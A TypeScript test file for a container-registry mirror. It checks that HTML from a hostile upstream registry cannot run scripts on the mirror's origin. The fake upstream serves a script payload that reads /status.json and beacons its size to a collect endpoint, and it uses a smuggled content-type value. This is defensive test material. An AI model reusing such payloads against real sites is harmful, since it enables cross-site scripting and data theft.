/**
 * Issue 21, defect 3: an upstream's content must not run on crm's origin, where the status page
 * and status.json live. A hostile registry serves text/html with a script (as a blob, as a
 * manifest, as a tags list); Chromium opens each through crm, and the script must not run. Every
 * mirror answer carries nosniff and a sandboxing CSP; blobs go out as application/octet-stream; a
 * manifest keeps its media type only when it is a manifest type.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { chromium, type Browser } from "playwright-core";
import { mirrorContentType } from "../src/mirror/content-safety.ts";
import { startCrm, type TestCrm } from "./support/crm.ts";
import { missingTools } from "./support/tools.ts";

const OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json";
let collected: string[] = [];
let upstream: ReturnType<typeof Bun.serve>;
let crm: TestCrm;

const page = (): string =>
  `<!doctype html><html><body><script>fetch("/status.json").then((r) => r.text()).then((t) => { document.title = "STOLEN " + t.length; new Image().src = "http://127.0.0.1:${upstream.port}/collect?n=" + t.length; });</script>hello</body></html>`;
const digestOf = (s: string): string => "sha256:" + createHash("sha256").update(s).digest("hex");
const okManifest = JSON.stringify({
  schemaVersion: 2,
  mediaType: OCI_MANIFEST,
  config: {
    mediaType: "application/vnd.oci.image.config.v1+json",
    digest: digestOf("{}"),
    size: 2,
  },
  layers: [],
});

beforeAll(async () => {
  upstream = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(req) {
      const path = new URL(req.url).pathname;
      if (path === "/collect") {
        collected.push(req.url);
        return new Response("");
      }
      const html = (extra: Record<string, string> = {}): Response => {
        const body = page();
        return new Response(req.method === "HEAD" ? null : body, {
          headers: {
            "content-type": "text/html; charset=utf-8",
            "content-length": String(Buffer.byteLength(body)),
            "docker-content-digest": digestOf(body),
            ...extra,
          },
        });
      };
      if (path === "/v2/" || path === "/v2") return Response.json({});
      if (/^\/v2\/evil\/page\/blobs\//.test(path)) return html();
      if (/^\/v2\/evil\/page\/manifests\//.test(path)) return html();
      if (path === "/v2/evil/page/tags/list") return html();
      if (/^\/v2\/good\/app\/manifests\//.test(path)) {
        return new Response(req.method === "HEAD" ? null : okManifest, {
          headers: {
            "content-type": OCI_MANIFEST,
            "content-length": String(Buffer.byteLength(okManifest)),
            "docker-content-digest": digestOf(okManifest),
          },
        });
      }
      // A manifest type with a list smuggled behind its parameters, and one spelled in capitals with a parameter.
      const typed = /^\/v2\/(mixed|param)\/app\/manifests\//.exec(path);
      if (typed) {
        const type =
          typed[1] === "mixed"
            ? "application/json; a=b, text/html"
            : "APPLICATION/VND.OCI.IMAGE.MANIFEST.V1+JSON; charset=utf-8";
        return new Response(req.method === "HEAD" ? null : okManifest, {
          headers: {
            "content-type": type,
            "content-length": String(Buffer.byteLength(okManifest)),
            "docker-content-digest": digestOf(okManifest),
          },
        });
      }
      return Response.json(
        { errors: [{ code: "NAME_UNKNOWN", message: "no" }] },
        { status: 404, headers: { "content-type": "text/html" } },
      );
    },
  });
  crm = await startCrm(
    {
      mirror: {
        default_registry: "evil.test",
        registries: { "evil.test": `http://127.0.0.1:${upstream.port}` },
      },
    },
    "info",
  );
});

afterAll(async () => {
  await crm?.stop();
  upstream?.stop(true);
});

const blobPath = (): string => `/v2/evil/page/blobs/${digestOf(page())}`;

test("every mirror answer carries nosniff and a sandboxing CSP; blobs are octet-stream; a non-manifest type is not kept", async () => {
  const ask = (path: string, method = "GET") =>
    fetch(`${crm.url}${path}`, { method, proxy: false } as RequestInit);
  const cases: Array<[string, string, string | RegExp]> = [
    ["/v2/", "GET", /^application\/json/],
    [blobPath(), "GET", "application/octet-stream"],
    [blobPath(), "HEAD", "application/octet-stream"],
    ["/v2/evil/page/manifests/latest", "GET", "application/octet-stream"],
    ["/v2/evil/page/manifests/latest", "HEAD", "application/octet-stream"],
    ["/v2/evil/page/tags/list", "GET", "application/octet-stream"],
    ["/v2/good/app/manifests/v1", "GET", OCI_MANIFEST],
    ["/v2/good/app/manifests/v1", "HEAD", OCI_MANIFEST],
    ["/v2/nothing/here/manifests/v1", "GET", /^application\/json/],
    ["/v2/nothing/here/manifests/v1", "HEAD", /^application\/json/],
  ];
  for (const [path, method, type] of cases) {
    const r = await ask(path, method);
    await r.arrayBuffer();
    expect([path, method, r.headers.get("x-content-type-options")]).toEqual([
      path,
      method,
      "nosniff",
    ]);
    expect([path, method, r.headers.get("content-security-policy")]).toEqual([
      path,
      method,
      "sandbox; default-src 'none'",
    ]);
    if (typeof type === "string")
      expect([path, method, r.headers.get("content-type")]).toEqual([path, method, type]);
    else expect(r.headers.get("content-type") ?? "").toMatch(type);
  }
});

test("a kept manifest type goes out as its bare lower-case essence; a type with a comma is not a manifest type, fresh or from the manifest cache", async () => {
  const ask = (path: string, method = "GET") =>
    fetch(`${crm.url}${path}`, { method, proxy: false } as RequestInit);
  const cases: Array<[string, string, string]> = [
    ["/v2/mixed/app/manifests/v1", "GET", "application/octet-stream"],
    ["/v2/mixed/app/manifests/v1", "HEAD", "application/octet-stream"],
    [`/v2/mixed/app/manifests/${digestOf(okManifest)}`, "GET", "application/octet-stream"],
    [`/v2/mixed/app/manifests/${digestOf(okManifest)}`, "GET", "application/octet-stream"],
    ["/v2/param/app/manifests/v1", "GET", OCI_MANIFEST],
    [`/v2/param/app/manifests/${digestOf(okManifest)}`, "GET", OCI_MANIFEST],
    [`/v2/param/app/manifests/${digestOf(okManifest)}`, "GET", OCI_MANIFEST],
  ];
  for (const [path, method, type] of cases) {
    const r = await ask(path, method);
    await r.arrayBuffer();
    expect([path, method, r.status, r.headers.get("content-type")]).toEqual([
      path,
      method,
      200,
      type,
    ]);
  }
});

test("mirrorContentType: the essence of a manifest type, octet-stream for anything else", () => {
  expect(mirrorContentType("application/json; a=b, text/html")).toBe("application/octet-stream");
  expect(mirrorContentType("application/json;,text/html")).toBe("application/octet-stream");
  expect(mirrorContentType('application/json; charset="x, text/html"')).toBe(
    "application/octet-stream",
  );
  expect(mirrorContentType("Application/JSON; charset=utf-8")).toBe("application/json");
  expect(mirrorContentType("text/html")).toBe("application/octet-stream");
});

const skip = missingTools("hostile content in a browser", ["chromium"]);

describe.skipIf(skip)("in Chromium", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await chromium.launch({
      executablePath: "/usr/bin/chromium",
      args: [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
      ],
    });
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
  });

  test("an upstream's text/html opened through crm runs no script on crm's origin (no status.json read)", async () => {
    collected = [];
    const ctx = await browser.newContext({ acceptDownloads: false });
    try {
      for (const path of [
        blobPath(),
        "/v2/evil/page/manifests/latest",
        "/v2/evil/page/tags/list",
      ]) {
        const p = await ctx.newPage();
        // A download (octet-stream) aborts the navigation; either way the page must not run.
        await p.goto(`${crm.url}${path}`, { waitUntil: "load" }).catch(() => null);
        // Long enough for the script's fetch and beacon to arrive had it run (a lower bound, not a limit).
        await Bun.sleep(500);
        const title = await p.title().catch(() => "");
        expect([path, title]).not.toEqual([path, expect.stringContaining("STOLEN")]);
        await p.close();
      }
    } finally {
      await ctx.close();
    }
    expect(collected).toEqual([]);
    expect(crm.logs.filter((l) => l.includes("GET /status.json"))).toEqual([]);
  }, 60_000);
});

test("crm's own refusals under the mirror path (credentials asked for) carry the same fields", async () => {
  const locked = await startCrm(
    {
      access: { users: { alice: await Bun.password.hash("pw", { algorithm: "argon2id" }) } },
      mirror: {
        default_registry: "evil.test",
        registries: { "evil.test": `http://127.0.0.1:${upstream.port}` },
      },
    },
    "info",
  );
  try {
    const r = await fetch(`${locked.url}${blobPath()}`, { proxy: false } as RequestInit);
    await r.arrayBuffer();
    expect(r.status).toBe(401);
    expect(r.headers.get("x-content-type-options")).toBe("nosniff");
    expect(r.headers.get("content-security-policy")).toBe("sandbox; default-src 'none'");
  } finally {
    await locked.stop();
  }
});
